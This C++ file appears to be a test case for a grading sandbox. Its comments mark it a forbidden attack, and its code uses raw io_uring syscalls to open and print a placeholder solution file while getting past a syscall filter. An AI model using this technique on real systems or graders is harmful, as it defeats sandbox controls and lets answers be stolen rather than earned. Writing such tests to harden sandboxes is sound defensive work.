// attack: opens and reads a file with io_uring, past any filter of system calls
// verdict: forbidden
// wins: canary
// needs: io_uring

#include "matrix_attention.hpp"

#include <fcntl.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

int ring = -1;

void* map(std::size_t size, long offset) {
  return mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset);
}

void attack() {
  io_uring_params params{};
  ring = static_cast<int>(syscall(SYS_io_uring_setup, 4, &params));
  std::printf("io_uring_setup: %s\n", ring < 0 ? std::strerror(errno) : "done");
  if (ring >= 0) {
    char* queue =
        static_cast<char*>(map(params.cq_off.cqes + 8 * sizeof(io_uring_cqe), IORING_OFF_SQ_RING));
    auto* entries = static_cast<io_uring_sqe*>(map(4 * sizeof(io_uring_sqe), IORING_OFF_SQES));
    static char text[8192];
    const auto submit = [&](const io_uring_sqe& order) {
      auto* tail = reinterpret_cast<unsigned*>(queue + params.sq_off.tail);
      entries[*tail % 4] = order;
      reinterpret_cast<unsigned*>(queue + params.sq_off.array)[*tail % 4] = *tail % 4;
      __atomic_add_fetch(tail, 1, __ATOMIC_RELEASE);
      syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
      auto* head = reinterpret_cast<unsigned*>(queue + params.cq_off.head);
      auto* answers = reinterpret_cast<io_uring_cqe*>(queue + params.cq_off.cqes);
      return answers[__atomic_fetch_add(head, 1, __ATOMIC_ACQ_REL) % params.cq_entries].res;
    };
    io_uring_sqe order{};
    order.opcode = IORING_OP_OPENAT;
    order.fd = AT_FDCWD;
    order.addr = reinterpret_cast<std::uintptr_t>("@SOLUTION@");
    const int file = submit(order);
    order = {};
    order.opcode = IORING_OP_READ;
    order.fd = file;
    order.addr = reinterpret_cast<std::uintptr_t>(text);
    order.len = sizeof text - 1;
    std::printf("opened as %d, read %d bytes\n%s\n", file, submit(order), text);
  }
}

}  // namespace

#include "then_zeros.hpp"
